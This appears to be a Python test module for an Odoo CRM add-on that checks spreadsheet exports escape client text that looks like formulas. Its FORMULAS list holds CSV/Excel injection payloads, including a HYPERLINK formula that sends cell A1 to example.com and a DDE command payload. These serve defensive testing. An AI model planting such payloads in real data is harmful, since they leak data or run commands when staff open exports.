# Copyright 2026 crm_lead_api maintainers
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Check that texts of clients stay texts in the spreadsheets that staff export."""

import csv
import io
import json

import openpyxl

from odoo.fields import Command
from odoo.http import Request
from odoo.tests import tagged

from ..common import LeadApiHttpCase

FORMULAS = (
    '=HYPERLINK("http://example.com/?"&A1, "x")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
)
# As they are in a sheet
TEXTS = [f"'{text}" if text[0] in "={@" else text for text in FORMULAS]


@tagged("post_install", "-at_install")
class TestExport(LeadApiHttpCase):
    def _export(self, kind, **options):
        self.authenticate(self.agent.login, self.agent.login)
        data = {
            "model": "crm.lead",
            "fields": [
                {"name": name, "label": name, "type": "char"}
                for name in ("contact_name", "street", "facebook_account")
            ],
            "ids": self.leads.ids,
            "domain": [],
            "groupby": [],
            "context": {},
            "import_compat": False,
            **options,
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(data),
                "csrf_token": Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def setUp(self):
        super().setUp()
        self.agent.group_ids += self.env.ref("base.group_allow_export")
        self.leads = self.env["crm.lead"]
        for text in FORMULAS:
            payload = {**self.payload, "phone_no1": "0", "street": text}
            self.leads |= self.assertSuccess(
                self.post({**payload, "contact_name": text, "facebook_acc": text})
            )

    def _get_cells(self, content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows() for cell in row if cell.value]

    def test_excel(self):
        cells = self._get_cells(self._export("xlsx"))
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        texts = [cell.value for cell in cells]
        for text in TEXTS:
            self.assertEqual(texts.count(text), 3, text)

    def test_excel_in_groups(self):
        for groupby in (
            ["street"],
            ["partner_id"],
            ["partner_id.name"],
            ["partner_id", "street"],
        ):
            with self.subTest(groupby):
                content = self._export("xlsx", groupby=groupby, ids=False)
                cells = self._get_cells(content)
                formulas = [cell.value for cell in cells if cell.data_type == "f"]
                self.assertFalse(formulas)
                texts = [cell.value for cell in cells]
                for text in TEXTS:
                    self.assertIn(text, texts)
                label = f"{TEXTS[0]} ("  # and how many leads
                self.assertTrue([text for text in texts if text.startswith(label)])

    def test_csv(self):
        rows = list(csv.reader(io.StringIO(self._export("csv").decode())))
        values = [value for row in rows[1:] for value in row]
        self.assertEqual(len(values), 3 * len(FORMULAS))
        for value in values:
            self.assertNotIn(value[0], "=+-@{")

    def test_by_way_of_other_models(self):
        """A contact's name is also its leads', its users', and in other models."""
        partner = self.leads[0].partner_id
        self.agent.partner_id.name = FORMULAS[1]
        event = self.env["calendar.event"].create(
            {
                "name": "x",
                "start": "2026-03-02 08:00:00",
                "stop": "2026-03-02 09:00:00",
                "partner_ids": [Command.set(partner.ids)],
            }
        )
        self.leads[0].type = "opportunity"
        for model, ids, name, text in (
            ("calendar.event", event.ids, "partner_ids", TEXTS[0]),
            ("calendar.event", event.ids, "partner_ids/name", TEXTS[0]),
            ("crm.lead", self.leads[0].ids, "partner_id", TEXTS[0]),
            ("crm.lead", self.leads[0].ids, "user_id/name", TEXTS[1]),
            ("res.users", self.agent.ids, "name", TEXTS[1]),
        ):
            fields = [{"name": name, "label": "x", "type": "char"}]
            for import_compat in (True, False):
                with self.subTest(f"{model} {name}", import_compat=import_compat):
                    content = self._export(
                        "xlsx",
                        model=model,
                        ids=ids,
                        fields=fields,
                        import_compat=import_compat,
                    )
                    values = [cell.value for cell in self._get_cells(content)[1:]]
                    self.assertEqual(values, [text])

    def test_by_way_of_properties_and_references(self):
        """Staff may copy texts of clients there, or link records with such names."""
        lead, partner = self.leads[0], self.leads[0].partner_id
        lead.team_id.lead_properties_definition = [
            {"name": "a1", "type": "char", "string": "Biệt danh"}
        ]
        lead.lead_properties = {"a1": FORMULAS[0]}
        fields = [{"name": "lead_properties.a1", "label": "x", "type": "char"}]
        content = self._export("xlsx", ids=lead.ids, fields=fields)
        self.assertEqual([c.value for c in self._get_cells(content)[1:]], [TEXTS[0]])
        action = self.env["ir.actions.server"].create(
            {
                "name": "x",
                "model_id": self.env["ir.model"]._get_id("crm.lead"),
                "state": "object_write",
                "resource_ref": f"res.partner,{partner.id}",
            }
        )
        data = action.with_context(import_compat=False).export_data(["resource_ref"])
        self.assertEqual(data["datas"], [[TEXTS[0]]])

    def test_look_ups(self):
        look_up = self.env["crm.lead.api.look.up"].create(
            {
                "client_id": self.client.id,
                "date": "2026-03-02",
                "method": "email",
                **dict.fromkeys(("agent_email", "value", "name"), FORMULAS[0]),
            }
        )
        data = look_up.export_data(["agent_email", "value", "name"])
        self.assertEqual(data["datas"], [[TEXTS[0]] * 3])

    def test_what_clients_do_not_send_is_as_odoo_exports_it(self):
        names = ("=1+1", "@SUM(1+1)", "{=1+1}", "-1")
        products = self.env["product.product"].create([{"name": n} for n in names])
        options = {
            "model": "product.product",
            "ids": products.ids,
            "fields": [
                {"name": "name", "label": "Name", "type": "char"},
                {"name": "categ_id/name", "label": "Category", "type": "char"},
            ],
        }
        products.categ_id = self.env["product.category"].create({"name": "=2"})
        self.assertEqual(
            self._export("csv", **options).decode(),
            '"Name","Category"\r\n'
            '"\'=1+1","\'=2"\r\n"@SUM(1+1)","\'=2"\r\n"{=1+1}","\'=2"\r\n'
            '"\'-1","\'=2"\r\n',
        )
        cells = self._get_cells(self._export("xlsx", **options))[2:]
        self.assertEqual(cells[0].value, "=1+1")
        self.assertEqual([cells[0].data_type, cells[1].data_type], ["f", "f"])
        self.assertEqual([cells[2].value, cells[6].value], ["@SUM(1+1)", "-1"])
        content = self._export("xlsx", groupby=["categ_id"], **options)
        labels = [cell.value for cell in self._get_cells(content)]
        self.assertIn("=2 (4)", labels)
